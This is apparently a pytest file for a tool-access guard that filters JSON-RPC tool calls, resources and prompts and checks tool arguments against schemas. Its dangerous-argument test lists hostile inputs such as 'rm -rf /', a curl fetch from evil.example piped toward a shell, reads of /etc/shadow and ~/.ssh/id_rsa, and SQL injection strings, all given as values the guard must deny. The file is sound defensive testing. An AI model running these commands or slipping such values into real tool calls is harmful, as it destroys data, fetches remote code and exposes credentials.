"""tool-access: resource and prompt globs, argument validation against schemas, dangerous arguments."""

from typing import Any

import pytest
from pydantic import ValidationError

from guardmesh.config import GuardType, SecurityGuardSpec, ToolAccessSettings
from guardmesh.guards.api import Decision, GuardContext, Verdict
from guardmesh.guards.native.tool_access import SchemaStore, ToolAccessGuard
from guardmesh.guards.registry import GuardResources, build_guard
from guardmesh.protocol.jsonrpc import Direction, Message, classify

CTX = GuardContext("server-a")


def request(method: str, **params: Any) -> Message:
    return classify({"jsonrpc": "2.0", "id": 1, "method": method, "params": params}, Direction.TO_SERVER)


def call(tool: str, arguments: Any) -> Message:
    return request("tools/call", name=tool, arguments=arguments)


def result(method: str, **fields: Any) -> Message:
    """A result, already matched to its request as the relay does."""
    message = classify({"jsonrpc": "2.0", "id": 2, "result": fields}, Direction.TO_CLIENT)
    message.method = method
    return message


def guard(**settings: Any) -> ToolAccessGuard:
    return ToolAccessGuard(ToolAccessSettings.model_validate(settings), SchemaStore())


def kept(verdict: Verdict, field: str, key: str) -> list[str]:
    assert verdict.decision is Decision.MODIFY
    assert verdict.body is not None
    return [item[key] for item in verdict.body["result"][field]]


# --- settings ----------------------------------------------------------------------------------


def test_settings_default_to_allowing_everything_with_all_checks() -> None:
    settings = ToolAccessSettings()
    assert settings.resources.allow == ("*",)
    assert settings.resources.deny == ()
    assert settings.prompts.allow == ("*",)
    assert settings.prompts.deny == ()
    assert settings.validate_arguments is True
    assert settings.argument_schemas == {}
    assert settings.argument_checks == ("pathTraversal", "shell", "sql")


def test_settings_are_camel_case_on_the_wire() -> None:
    settings = ToolAccessSettings.model_validate(
        {
            "resources": {"allow": ["file:///srv/*"], "deny": ["*secret*"]},
            "prompts": {"deny": ["admin_*"]},
            "validateArguments": False,
            "argumentSchemas": {"fs_*": {"type": "object"}},
            "argumentChecks": ["sql"],
        }
    )
    assert settings.resources.deny == ("*secret*",)
    assert settings.prompts.deny == ("admin_*",)
    assert settings.validate_arguments is False
    assert settings.argument_checks == ("sql",)
    dumped = settings.model_dump(by_alias=True)
    assert {"validateArguments", "argumentSchemas", "argumentChecks", "resources", "prompts"} <= dumped.keys()


def test_settings_schema_documents_the_new_fields() -> None:
    props = ToolAccessSettings.model_json_schema(by_alias=True)["properties"]
    for name in ("resources", "prompts", "validateArguments", "argumentSchemas", "argumentChecks"):
        assert props[name].get("description"), name


@pytest.mark.parametrize(
    "bad",
    [{"argumentChecks": ["xss"]}, {"resources": {"allow": ["*"], "other": 1}}, {"validateArguments": "maybe!"}],
)
def test_bad_settings_are_refused(bad: dict[str, Any]) -> None:
    with pytest.raises(ValidationError):
        ToolAccessSettings.model_validate(bad)


def test_an_invalid_configured_schema_is_refused_when_built() -> None:
    with pytest.raises(ValueError, match="argumentSchemas"):
        guard(argumentSchemas={"fs_*": {"type": "no-such-type"}})


# --- resources and prompts ---------------------------------------------------------------------


RESOURCE_GLOBS = {"allow": ["file:///srv/*", "db://*"], "deny": ["*secret*"]}


def test_resources_list_is_filtered_by_uri() -> None:
    items = [{"uri": "file:///srv/a.txt"}, {"uri": "file:///etc/passwd"}, {"uri": "file:///srv/secret.key"}]
    verdict = guard(resources=RESOURCE_GLOBS).check(result("resources/list", resources=items), CTX)
    assert kept(verdict, "resources", "uri") == ["file:///srv/a.txt"]
    assert "file:///etc/passwd" in verdict.reason


def test_resource_templates_are_filtered_by_uri_template() -> None:
    items = [{"uriTemplate": "db://{table}"}, {"uriTemplate": "s3://{bucket}"}]
    verdict = guard(resources=RESOURCE_GLOBS).check(result("resources/templates/list", resourceTemplates=items), CTX)
    assert kept(verdict, "resourceTemplates", "uriTemplate") == ["db://{table}"]


@pytest.mark.parametrize("method", ["resources/read", "resources/subscribe"])
@pytest.mark.parametrize(
    ("uri", "allowed"),
    [("file:///srv/a.txt", True), ("file:///etc/passwd", False), ("file:///srv/secret.key", False)],
)
def test_resource_reads_and_subscriptions_are_denied_by_uri(method: str, uri: str, allowed: bool) -> None:
    verdict = guard(resources=RESOURCE_GLOBS).check(request(method, uri=uri), CTX)
    assert (verdict.decision is Decision.ALLOW) is allowed
    if not allowed:
        assert repr(uri) in verdict.reason


def test_prompts_are_filtered_and_denied_by_name() -> None:
    g = guard(prompts={"deny": ["admin_*"]})
    verdict = g.check(result("prompts/list", prompts=[{"name": "summarize"}, {"name": "admin_reset"}]), CTX)
    assert kept(verdict, "prompts", "name") == ["summarize"]
    assert g.check(request("prompts/get", name="admin_reset"), CTX).decision is Decision.DENY
    assert g.check(request("prompts/get", name="summarize"), CTX).decision is Decision.ALLOW


def test_by_default_resources_and_prompts_pass_untouched() -> None:
    g = guard()
    assert g.check(result("resources/list", resources=[{"uri": "file:///x"}]), CTX).decision is Decision.ALLOW
    assert g.check(result("prompts/list", prompts=[{"name": "p"}]), CTX).decision is Decision.ALLOW
    assert g.check(request("resources/read", uri="file:///x"), CTX).decision is Decision.ALLOW
    assert g.check(request("prompts/get", name="p"), CTX).decision is Decision.ALLOW


def test_tool_globs_do_not_apply_to_prompts_or_resources() -> None:
    g = guard(deny=["*"])
    assert g.check(request("prompts/get", name="p"), CTX).decision is Decision.ALLOW
    assert g.check(request("resources/read", uri="file:///x"), CTX).decision is Decision.ALLOW


# --- argument validation -----------------------------------------------------------------------


SCHEMA = {
    "type": "object",
    "properties": {
        "path": {"type": "string", "maxLength": 100},
        "options": {"type": "object", "properties": {"depth": {"type": "integer", "minimum": 0}}},
        "mode": {"enum": ["r", "w"]},
    },
    "required": ["path"],
    "additionalProperties": False,
}


def listed_guard(**settings: Any) -> ToolAccessGuard:
    g = guard(**settings)
    tools = [{"name": "read_file", "description": "Reads.", "inputSchema": SCHEMA}]
    assert g.check(result("tools/list", tools=tools), CTX).decision is Decision.ALLOW
    return g


@pytest.mark.parametrize(
    ("arguments", "where"),
    [
        ({}, "$ (required)"),
        ({"path": 5}, "$.path (type)"),
        ({"path": "a.txt", "options": {"depth": "deep"}}, "$.options.depth (type)"),
        ({"path": "a.txt", "options": {"depth": -1}}, "$.options.depth (minimum)"),
        ({"path": "a.txt", "mode": "x"}, "$.mode (enum)"),
        ({"path": "a.txt", "extra": "top-secret-value"}, "$ (additionalProperties)"),
    ],
)
def test_arguments_violating_the_listed_input_schema_are_denied(arguments: dict[str, Any], where: str) -> None:
    verdict = listed_guard().check(call("read_file", arguments), CTX)
    assert verdict.decision is Decision.DENY
    assert where in verdict.reason
    assert "top-secret-value" not in verdict.reason
    assert "deep" not in verdict.reason


@pytest.mark.parametrize(
    "arguments", [{"path": "a.txt"}, {"path": "notes/a.txt", "options": {"depth": 2}, "mode": "r"}]
)
def test_valid_arguments_pass(arguments: dict[str, Any]) -> None:
    assert listed_guard().check(call("read_file", arguments), CTX).decision is Decision.ALLOW


def test_schemas_are_remembered_per_server() -> None:
    g = listed_guard()
    assert g.check(call("read_file", {}), GuardContext("server-b")).decision is Decision.ALLOW
    assert g.check(call("read_file", {}), CTX).decision is Decision.DENY


def test_a_later_listing_replaces_the_schema_and_survives_a_rebuild() -> None:
    resources = GuardResources()
    spec_settings = ToolAccessSettings()
    first = build_guard_with(spec_settings, resources)
    first.check(result("tools/list", tools=[{"name": "read_file", "inputSchema": SCHEMA}]), CTX)
    second = build_guard_with(spec_settings, resources)
    assert second.check(call("read_file", {}), CTX).decision is Decision.DENY
    second.check(result("tools/list", tools=[{"name": "read_file", "inputSchema": {"type": "object"}}]), CTX)
    assert second.check(call("read_file", {}), CTX).decision is Decision.ALLOW


def build_guard_with(settings: ToolAccessSettings, resources: GuardResources) -> ToolAccessGuard:
    spec = SecurityGuardSpec(type=GuardType.NATIVE, native=settings)
    built = build_guard(spec, resources)
    assert isinstance(built, ToolAccessGuard)
    return built


def test_validation_can_be_turned_off_and_bad_server_schemas_are_ignored() -> None:
    assert listed_guard(validateArguments=False).check(call("read_file", {}), CTX).decision is Decision.ALLOW
    g = guard()
    g.check(result("tools/list", tools=[{"name": "t", "inputSchema": {"type": 12}}]), CTX)
    assert g.check(call("t", {"x": 1}), CTX).decision is Decision.ALLOW


def test_configured_argument_schemas_apply_by_glob_in_addition() -> None:
    limit = {"type": "object", "properties": {"path": {"type": "string", "pattern": "^/srv/"}}}
    g = listed_guard(argumentSchemas={"read_*": limit})
    verdict = g.check(call("read_file", {"path": "/home/me/a.txt"}), CTX)
    assert verdict.decision is Decision.DENY
    assert "argumentSchemas['read_*']" in verdict.reason
    assert "$.path (pattern)" in verdict.reason
    assert "/home/me" not in verdict.reason
    assert g.check(call("read_file", {"path": "/srv/a.txt"}), CTX).decision is Decision.ALLOW
    assert g.check(call("read_file", {}), CTX).decision is Decision.DENY  # the listed schema still applies


def test_schema_store_is_bounded() -> None:
    store = SchemaStore(max_servers=2, max_tools=2)
    for server in ("a", "b", "c"):
        for tool in ("t1", "t2", "t3"):
            store.observe(server, tool, {"type": "object"})
    assert store.validator("a", "t3") is None
    assert store.validator("c", "t1") is None
    assert store.validator("c", "t3") is not None


# --- dangerous arguments -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "kind"),
    [
        ("../../etc/passwd", "path traversal"),
        ("docs\\..\\..\\windows", "path traversal"),
        ("%2e%2e%2fsecret", "path traversal"),
        ("..%2f..%2fconfig", "path traversal"),
        ("/etc/shadow", "path traversal"),
        ("/proc/self/environ", "path traversal"),
        ("~/.ssh/id_rsa", "path traversal"),
        ("a.txt; rm -rf /", "shell injection"),
        ("x && curl http://evil.example/p.sh", "shell injection"),
        ("data | sh", "shell injection"),
        ("`whoami`", "shell injection"),
        ("$(curl evil.example)", "shell injection"),
        ("' OR 1=1 --", "SQL injection"),
        ("x' or 'a'='a", "SQL injection"),
        ("1 UNION SELECT password FROM users", "SQL injection"),
        ("1; DROP TABLE users", "SQL injection"),
        ("admin'--", "SQL injection"),
        ("1 UNION/**/SELECT 1", "SQL injection"),
    ],
)
def test_dangerous_patterns_in_nested_arguments_are_denied(value: str, kind: str) -> None:
    arguments = {"query": {"filters": [{"term": "fine"}, {"term": value}]}}
    verdict = guard().check(call("search", arguments), CTX)
    assert verdict.decision is Decision.DENY
    assert verdict.reason == f"argument $.query.filters[1].term of tool 'search' looks like {kind}"


@pytest.mark.parametrize(
    "value",
    [
        "a/b/c",
        "rock & roll",
        "O'Brien",
        "Wait... what?",
        "It's done -- mostly",
        "see ./docs/readme.md",
        "Tom; cat lover",
        "pick one | other",
        "The union select committee",
        "SELECT name FROM users WHERE id = 3",
        "cost is $(5)",
        "etc/passwd is a file name",
        "C:\\Users\\me\\notes.txt",
    ],
)
def test_harmless_look_alikes_pass(value: str) -> None:
    verdict = guard().check(call("search", {"query": {"text": value}}), CTX)
    assert verdict.decision is Decision.ALLOW, verdict.reason


def test_checks_can_be_chosen() -> None:
    g = guard(argumentChecks=["sql"])
    assert g.check(call("t", {"p": "../../etc/passwd"}), CTX).decision is Decision.ALLOW
    assert g.check(call("t", {"q": "' OR 1=1"}), CTX).decision is Decision.DENY
    assert guard(argumentChecks=[]).check(call("t", {"q": "' OR 1=1"}), CTX).decision is Decision.ALLOW


def test_odd_keys_are_checked_and_named_only_in_short() -> None:
    verdict = guard().check(call("t", {"x; rm -rf /": "v"}), CTX)
    assert verdict.decision is Decision.DENY
    assert "argument $['x; rm -rf /'] of tool 't'" in verdict.reason


def test_huge_and_deep_arguments_are_scanned_in_bounded_time() -> None:
    deep: Any = "../../etc/passwd"
    for _ in range(200):
        deep = {"a": deep}
    assert guard().check(call("t", deep), CTX).decision is Decision.ALLOW  # beyond the walked depth
    many = {"items": ["plain text " * 10] * 50_000}
    assert guard().check(call("t", many), CTX).decision is Decision.ALLOW
    huge = {"blob": "a" * 5_000_000 + "; rm -rf /"}
    assert guard().check(call("t", huge), CTX).decision is Decision.ALLOW  # past the scanned prefix


def test_denied_tool_is_refused_before_its_arguments_are_looked_at() -> None:
    verdict = guard(deny=["exec_*"]).check(call("exec_sh", {"cmd": "; rm -rf /"}), CTX)
    assert verdict.reason == "tool 'exec_sh' is not allowed"


def test_a_server_schema_pattern_runs_in_linear_time_and_a_pattern_re2_cannot_run_is_refused() -> None:
    from guardmesh.guards.native.tool_access import _validator

    catastrophic = {"type": "object", "properties": {"q": {"type": "string", "pattern": "^(a+)+$"}}}
    validator = _validator(catastrophic)
    assert validator is not None
    assert list(validator.iter_errors({"q": "a" * 5000 + "!"})), "the mismatch is found (and quickly, on RE2)"
    assert not list(validator.iter_errors({"q": "aaaa"}))
    backreference = {"type": "object", "properties": {"q": {"type": "string", "pattern": "(a)\\1"}}}
    assert _validator(backreference) is None
    keyed = {"type": "object", "patternProperties": {"^x-": {"type": "integer"}}}
    checker = _validator(keyed)
    assert checker is not None
    assert list(checker.iter_errors({"x-a": "not an int"}))
    assert not list(checker.iter_errors({"x-a": 1, "y": "free"}))
